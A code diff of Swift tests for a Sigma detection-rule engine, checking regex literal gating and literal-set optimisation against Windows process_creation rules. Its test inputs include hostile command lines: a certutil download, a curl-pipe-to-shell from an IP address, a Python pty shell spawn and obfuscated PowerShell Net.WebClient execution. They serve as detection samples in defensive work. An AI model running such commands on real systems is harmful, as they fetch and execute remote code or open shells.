@@ -37,6 +37,18 @@ struct RegexGateTests {
         #expect(lit(#"ÄBCD"#) == "äbcd")  // non-ASCII folds per scalar, as event values do
     }
 
+    @Test func shorterLiteralsWhenAsked() {
+        func short(_ p: String, caseless: Bool = false) -> String? {
+            RegexLiteral.required(p, caseless: caseless, minLength: 1).map { String(decoding: $0, as: UTF8.self) }
+        }
+        #expect(short(#"(?i)(?:set).*&&\s?set.*"#) == "&&")  // s breaks "set" under caseless matching; "&&" is rarer than "et"
+        #expect(short(#"\w+`(?:\w+|-|.)`[\w+|\s]"#) == "`")
+        #expect(short(#"(?i)\$\{`?e`?n`?v"#) == "${")
+        #expect(short(#"a.b*"#) == "a")
+        #expect(short(#"\d+\s\w"#) == nil)
+        #expect(short(#"ab|cd"#) == nil)
+    }
+
     @Test func noLiteralWhenNoneIsCertain() {
         #expect(lit(#"abc|def"#) == nil)  // alternation at the top
         #expect(lit(#"ab.cd"#) == nil)  // runs shorter than 3
@@ -95,11 +107,18 @@ struct RegexGateTests {
         let off = try SigmaEngine.load(paths: paths, options: o)
         let unanchoredOn = on.unitSummary.reduce(0) { $0 + $1.unanchored }, unanchoredOff = off.unitSummary.reduce(0) { $0 + $1.unanchored }
         #expect(unanchoredOn < unanchoredOff, "gates anchor regex-only rules: \(unanchoredOn) vs \(unanchoredOff)")
+        // Literals of one or two bytes gate too: of Windows process_creation's rules only two
+        // are evaluated for every event, both made of negations only (an image without a path,
+        // one without a known extension); four regex rules were too, on `&&`, `${`, `-f` and a
+        // backtick.
+        let proc = on.unitSummary.first { $0.logsource == LogSource(product: "windows", category: "process_creation") }
+        #expect(proc?.unanchored == 2, "\(proc?.unanchored ?? -1) unanchored")
         var events = SigmaEventMix.events(count: 3000, windows: true)
         let lines = [
             "ipconfig /all", "IPCONFIG   /ALL", "net config workstation", "route print", "arp -a", "nbtstat -n",
             #"cmd /c set a=1&&set b=invoke&&echo ""#, #"c:\x\wsass.exe "c:\windows\system32\werfaultsecure.exe" 652"#,
-            "powershell ${e`Nv:pATh}", #"powershell "{0}{1}" -f 'a','b'"#, "certutil -urlcache -split -f http://x/a.exe",
+            "powershell ${e`Nv:pATh}", #"powershell "{0}{1}" -f 'a','b'"#, "powershell i`E`x(New-Object Net.WebClient)",
+            "certutil -urlcache -split -f http://x/a.exe",
             "bash -c 'curl http://198.51.100.7/x.sh | sh'", "python3 -c 'import pty;pty.spawn(\"/bin/sh\")'"
         ]
         for (k, line) in lines.enumerated() {
@@ -236,6 +255,24 @@ struct KeywordPassTests {
             let proc = LogSource(product: "windows", category: "process_creation")
             let unit = on.units.first { $0.logsource == proc }
             #expect(unit.map { $0.keywordOnePass && $0.fieldSkipCount[Int($0.keywordSlot)] == 1 } == true, "the keyword pass skips")
+        }
+    }
+
+    /// A selection's list of literals on one field evaluated as one node (`literalSets`): the
+    /// same matches; Windows process_creation holds hundreds of such lists.
+    @Test func theCorpusMatchesTheSameWithLiteralSets() throws {
+        var o = SigmaOptions()
+        o.literalSets = false
+        try compareOnCorpus(off: o) { on, off in
+            let proc = LogSource(product: "windows", category: "process_creation")
+            func sets(_ e: SigmaEngine) -> (any: Int, all: Int) {
+                guard let u = e.units.first(where: { $0.logsource == proc }) else { return (0, 0) }
+                let ops = u.nodes.map(\.op)
+                return (ops.filter { $0 == 6 }.count, ops.filter { $0 == 7 }.count)
+            }
+            #expect(sets(on).any >= 200, "\(sets(on)) literal sets")
+            #expect(sets(on).all >= 5, "\(sets(on)) literal sets")
+            #expect(sets(off).any == 0 && sets(off).all == 0)
         }
     }
 
